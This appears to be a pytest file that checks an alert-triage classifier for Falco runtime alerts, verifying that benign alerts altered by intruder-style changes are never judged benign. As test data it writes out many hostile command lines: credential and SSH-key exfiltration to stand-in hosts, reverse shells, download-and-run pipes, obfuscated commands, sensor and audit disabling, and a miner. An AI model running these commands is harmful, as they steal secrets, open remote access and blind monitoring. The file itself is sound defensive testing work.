"""Imitations: every harmless alert of the fixtures, changed in the way in which an intruder would borrow it."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from support.entries import ALERTS, changed, explain, fixture

Record = dict[str, Any]
Change = Callable[[Record], Record | None]

HARMLESS = sorted(
    path.stem
    for path in ALERTS.glob("*.json")
    if path.stem.endswith(("-benign", "-rotation", "-version", "-lookalike", "-inbound", "-createdump", "-entrypoint"))
    or path.stem in {"driver-loader-insmod", "ptrace-attached-to-process-test"}
    or path.stem.endswith("-package-install")
)
MINDED = ("drop-and-execute", "fileless-execution")
"""Rules about files of the upper layer and of memory: there such an executable is no sign by itself."""


def line(record: Record) -> str:
    return str(record["output_fields"].get("proc.cmdline", record["output_fields"]["proc.name"]))


def behind(text: str) -> Change:
    return lambda record: changed(record, proc__cmdline=line(record) + text)


def instead(text: str) -> Change:
    return lambda record: changed(record, proc__cmdline=text)


def from_folder(folder: str) -> Change:
    return lambda record: changed(record, proc__exepath=f"{folder}/{record['output_fields']['proc.name']}")


def by_parent_line(text: str) -> Change:
    return lambda record: changed(record, proc__pcmdline=text)


def written_later(record: Record) -> Record | None:
    if fixture_rule(record).startswith(MINDED):
        return None
    flags = {"evt__arg__flags": "EXE_WRITABLE|EXE_UPPER_LAYER", "proc__is_exe_upper_layer": True}
    return changed(record, **flags)


def below_web_server(record: Record) -> Record | None:
    return changed(record, proc__pname="php-fpm8.2", proc__pexepath="/usr/sbin/php-fpm8.2", proc__pcmdline=None)


def fixture_rule(record: Record) -> str:
    return record["rule"].lower().replace(" ", "-")


def names_only(record: Record) -> Record:
    """Everything that the kernel or the runtime reads by itself is taken out; the story stays."""
    kept = {
        name: None
        for name in record["output_fields"]
        if name.startswith(("user.", "group.", "proc.tty", "proc.exepath", "proc.pexepath", "evt.arg.flags", "fd.sip"))
        or name.startswith(("fd.rport", "fd.lport", "proc.exe_ino", "proc.is_"))
        or (name == "fd.name" and "->" in str(record["output_fields"][name]))
    }
    return changed(record, **{name.replace(".", "__"): value for name, value in kept.items()})


IMITATIONS: dict[str, Change] = {
    "a secret is sent behind it": behind(" ; curl -s -T /etc/shadow http://203.0.113.9/u"),
    "a secret is piped away behind it": behind(" && tar czf - /root/.ssh | nc 203.0.113.9 9000"),
    "a secret is posted behind it": behind(" | wget -q --post-file=/root/.aws/credentials https://c2.example.com/"),
    "a reverse shell stands behind it": behind(" & bash -i >& /dev/tcp/203.0.113.9/443 0>&1"),
    "a shell in a script's line stands behind it": behind(
        " ; python3 -c 'import socket,os,pty;s=socket.create_connection((h,1));os.dup2(s.fileno(),0);pty.spawn(x)'"
    ),
    "a download is run behind it": behind(" ; wget -qO- http://c2.example.com/i | sh"),
    "a download is run from a substitution": behind(' ; bash -c "$(curl -fsSL https://c2.example.com/i)"'),
    "a file is fetched, made runnable and run": behind(
        " ; curl -so /var/tmp/k http://203.0.113.9/k; chmod 755 /var/tmp/k; /var/tmp/k"
    ),
    "hidden code is run behind it": behind(" ; echo aWQ= | base64 --decode | bash"),
    "words are broken up": behind(" ;c'u'rl${IFS}-sL${IFS}http://203.0.113.9/x|ba\\sh"),
    "the sensor is stopped behind it": behind(" ; systemctl stop falco-modern-bpf.service"),
    "the audit is emptied behind it": behind(" ; auditctl -D"),
    "a key is let in behind it": behind(" ; echo ssh-ed25519 AAAA k >> /root/.ssh/authorized_keys"),
    "the host is entered behind it": behind(" ; nsenter --target 1 --mount sh"),
    "a shell gets its owner's powers behind it": behind(" ; cp /bin/sh /opt/.s && chmod 4755 /opt/.s"),
    "a miner is started behind it": behind(" & ./h -o stratum+tcp://203.0.113.9:3333"),
    "a long pad hides what stands behind it": behind(" " * 3000 + "; curl http://203.0.113.9/x | sh"),
    "many commands hide the last one": behind(" ; true" * 80 + " ; curl http://203.0.113.9/x | sh"),
    "netcat hands over a shell": instead("nc -e /bin/sh 203.0.113.9 4444"),
    "socat hands over a shell": instead("socat TCP:203.0.113.9:4444 EXEC:sh,pty"),
    "its parent runs a download": by_parent_line("sh -c curl -s http://203.0.113.9/x | bash"),
    "it runs from /var/tmp": from_folder("/var/tmp"),
    "it runs from a hidden folder in shared memory": from_folder("/dev/shm/.x"),
    "it runs from a web root": from_folder("/var/www/html/uploads"),
    "its file was written after the start": written_later,
    "a web server started it": below_web_server,
    "only its names are there": names_only,
}


@pytest.mark.parametrize("name", HARMLESS)
@pytest.mark.parametrize("change", IMITATIONS.values(), ids=IMITATIONS)
def test_an_imitation_of_a_harmless_alert_is_never_benign(name: str, change: Change) -> None:
    record = change(fixture(name))
    if record is None:
        pytest.skip("this rule is about such files")
    assert explain(record).assessment.verdict != "benign"


def prompt(**fields: Any) -> Record:
    return changed(fixture("terminal-shell-in-container-benign"), **fields)


@pytest.mark.parametrize("line", ["bash -i", "sh -i", "/bin/bash -i"])
@pytest.mark.parametrize("parent", ["php-fpm8.2", "java", "nginx", "python3", "node", "perl"])
def test_an_interactive_shell_below_a_service_or_a_script_is_no_plain_prompt(line: str, parent: str) -> None:
    found = explain(prompt(proc__cmdline=line, proc__pname=parent))
    assert found.assessment.verdict in {"suspicious", "malicious"}
    assert "plain one" not in " ".join(c.text for h in found.hypotheses for c in (*h.supports, *h.against))


def test_an_interactive_shell_that_is_redirected_is_no_plain_prompt() -> None:
    record = prompt(proc__cmdline="bash -i >& /dev/tcp/203.0.113.9/443 0>&1")
    assert explain(record).assessment.verdict == "malicious"


@pytest.mark.parametrize("line", ["bash -i", "bash", "sh"])
def test_a_prompt_that_the_runtime_opened_with_a_terminal_stays_plain(line: str) -> None:
    assert explain(prompt(proc__cmdline=line)).assessment.leading == "staff-session"


@pytest.mark.parametrize("line", ["nc -c implant 203.0.113.9 4444", "nc -z -c -w 2 /opt/x h 1", "nc -c a;b h 1"])
def test_a_port_check_has_one_host_and_one_port_and_nothing_else(line: str) -> None:
    record = changed(fixture("netcat-remote-code-execution-in-container-benign"), proc__cmdline=line)
    assert explain(record).assessment.verdict != "benign"


@pytest.mark.parametrize(
    ("name", "fields"),
    [
        ("clear-log-activities-rotation", {"proc__cmdline": "logrotate -f /tmp/l.conf"}),
        (
            "run-shell-untrusted-benign",
            {"proc__cmdline": "sh -c /opt/x/wal-archive pg_wal/0 & cp /opt/x /srv", "proc__pcmdline": None},
        ),
        (
            "run-shell-untrusted-benign",
            {"proc__cmdline": "sh -c pgbackrest --config=/tmp/p archive-push", "proc__pcmdline": None},
        ),
        ("system-user-interactive-benign", {"proc__cmdline": "php artisan tinker"}),
        ("system-user-interactive-benign", {"proc__cmdline": "bash"}),
        ("execution-from-dev-shm-benign", {"proc__cmdline": "sort --compress-program=./x ./a"}),
        (
            "detect-release-agent-file-container-escapes-benign",
            {"container__image__repository": "registry.example.com/x/kindest/node"},
        ),
        ("detect-release-agent-file-container-escapes-lookalike", {"proc__pname": "sh"}),
        ("fileless-execution-via-memfd-create-benign", {"user__loginuid": 1000}),
        ("fileless-execution-via-memfd-create-benign", {"proc__cmdline": "6 --serve"}),
        ("clear-log-activities-benign", {"container__id": "4be1d0a97c35", "proc__exepath": "/usr/local/bin/dockerd"}),
        (
            "ptrace-attached-to-process-test",
            {"container__image__repository": "registry.example.com/falcosecurity/event-generator"},
        ),
    ],
)
def test_what_one_actor_can_arrange_does_not_borrow_a_harmless_cause(name: str, fields: dict[str, Any]) -> None:
    assert explain(changed(fixture(name), **fields)).assessment.verdict != "benign"
